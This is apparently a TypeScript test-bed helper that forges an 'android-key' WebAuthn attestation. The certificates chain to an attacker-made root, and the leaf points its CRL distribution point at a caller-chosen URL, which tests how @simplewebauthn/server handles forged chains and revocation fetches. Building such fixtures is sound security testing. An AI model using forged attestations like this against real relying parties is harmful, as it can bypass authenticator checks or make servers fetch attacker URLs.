import { hash, type KeyObject, webcrypto } from 'node:crypto';
import { createRequire } from 'node:module';
import type { PublicKeyCredentialCreationOptionsJSON } from '@simplewebauthn/server';
import { isoCBOR } from '@simplewebauthn/server/helpers';
import type { SoftwareAuthenticator } from '../../bed/software-authenticator.ts';

/**
 * Registers a passkey with an attestation of the format `android-key`, whose certificates chain to a root of the
 * attacker and name `url` as their revocation list.
 */
export async function withCertificates(
  passkey: SoftwareAuthenticator,
  asked: PublicKeyCredentialCreationOptionsJSON,
  url: string,
) {
  const answer = passkey.register(asked);
  const { response } = answer;
  const attestation = isoCBOR.decodeFirst<Map<string, unknown>>(
    new Uint8Array(Buffer.from(response.attestationObject, 'base64url')),
  );
  const clientDataHash = hash('sha256', Buffer.from(response.clientDataJSON, 'base64url'), 'buffer');
  const x5c = await certificates(passkey.keys.publicKey, clientDataHash, url);
  attestation.set('fmt', 'android-key');
  attestation.set('attStmt', new Map(Object.entries({ alg: -7, sig: new Uint8Array(70), x5c })));
  const attestationObject = Buffer.from(isoCBOR.encode(attestation as never)).toString('base64url');
  return { ...answer, response: { ...response, attestationObject } };
}

/** Leaf and root, made by the packages of the library that reads them. */
async function certificates(key: KeyObject, clientDataHash: Buffer, url: string): Promise<Uint8Array[]> {
  const require = createRequire(createRequire(import.meta.url).resolve('@simplewebauthn/server'));
  require('reflect-metadata');
  const x509 = require('@peculiar/x509');
  const { KeyDescription, id_ce_keyDescription } = require('@peculiar/asn1-android');
  const { AsnConvert, OctetString } = require('@peculiar/asn1-schema');
  const signingAlgorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' };
  const publicKey = key.toCryptoKey(signingAlgorithm, true, ['verify']);
  const keys = await webcrypto.subtle.generateKey(signingAlgorithm, true, ['sign', 'verify']);
  const ca = { name: 'CN=root', keys, extensions: [new x509.BasicConstraintsExtension(true, 2, true)] };
  const root = await x509.X509CertificateGenerator.createSelfSigned({ ...ca, signingAlgorithm }, webcrypto);
  const description = Object.assign(new KeyDescription(), {
    attestationVersion: 3,
    attestationSecurityLevel: 1,
    keymasterVersion: 3,
    keymasterSecurityLevel: 1,
    attestationChallenge: new OctetString(clientDataHash),
    uniqueId: new OctetString(new Uint8Array(1)),
  });
  const leaf = await x509.X509CertificateGenerator.create(
    {
      signingAlgorithm,
      subject: 'CN=leaf',
      issuer: 'CN=root',
      publicKey,
      signingKey: keys.privateKey,
      extensions: [
        new x509.CRLDistributionPointsExtension([url]),
        new x509.Extension(id_ce_keyDescription, false, AsnConvert.serialize(description)),
      ],
    },
    webcrypto,
  );
  return [new Uint8Array(leaf.rawData), new Uint8Array(root.rawData)];
}
